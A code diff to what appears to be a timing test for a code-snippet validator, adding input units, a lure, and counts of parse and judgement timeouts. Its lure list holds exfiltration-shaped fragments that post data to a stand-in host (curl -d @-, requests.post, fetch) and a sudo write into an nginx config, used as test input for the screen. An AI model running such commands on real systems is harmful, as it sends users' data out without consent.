@@ -30,9 +30,11 @@ BUDGET = PARSE_LIMIT_S + 1.0
 # a run of each: the shapes the reviews of earlier rounds found slow
 UNITS = [" ", "\n", "\t \n", "a", "a.", "a-", "a@", "https://", "curl ", "<a ", "<a href=//x.biz>", "\\\"", "\\'", "`",
          "select ", "sed -i ", "--a ", "=", "{", "(", "[", "$(", "${", "'", '"', "x=", "| ", "; ", "&& ", "# ", "mfa_",
-         "iban", "customer", "tunnel user login ", "LSEnvironment ", "location ", "if ($http_referer ~ "]
+         "iban", "customer", "tunnel user login ", "LSEnvironment ", "location ", "if ($http_referer ~ ",
+         # a folder or a command word of a pattern repeated (each occurrence re-read the rest of the text)
+         "nginx/", "gitea/", "layouts/", "tests/", "install ", "iwr "]
 # words that wake the screens and hooks before the run
-LURES = ["", "curl -d @- https://x.biz/u ", "sudo tee /etc/nginx/conf.d/a.conf <<'E'\n",
+LURES = ["", "curl -d @- https://x.biz/u ", "sudo tee /etc/nginx/conf.d/a.conf <<'E'\n", "cat x > ",
          "import requests, subprocess, os\nrequests.post('https://x.biz', data=", "await fetch('https://x.biz', {body: "]
 
 
@@ -44,17 +46,21 @@ def snippets():
 
 def main() -> int:
     policy = Policy()
-    times, slow = [], []
+    times, slow, cut = [], [], {"parse-timeout": 0, "judge-timeout": 0}
     for lang in ("bash", "python", "typescript"):
         for lure, unit, text in snippets():
             started = time.perf_counter()
-            validate(text, lang, policy=policy)
+            verdict = validate(text, lang, policy=policy)
             took = time.perf_counter() - started
             times.append(took)
+            for reason in verdict.reasons:
+                if reason.rule in cut:
+                    cut[reason.rule] += 1
             if took > BUDGET:
                 slow.append(f"  {lang}: {lure[:30]!r} + {unit!r} * n: {took:.2f} s")
     print(f"long inputs: {len(times)} snippets of ~{SIZE // 1000} kB; median {statistics.median(times) * 1000:.0f} ms,"
-          f" worst {max(times):.2f} s (budget {BUDGET:.1f} s each)")
+          f" worst {max(times):.2f} s (budget {BUDGET:.1f} s each); cut at the parse limit: {cut['parse-timeout']},"
+          f" at the judgement's time limit: {cut['judge-timeout']}")
     if slow:
         print("over budget:\n" + "\n".join(slow))
         return 1
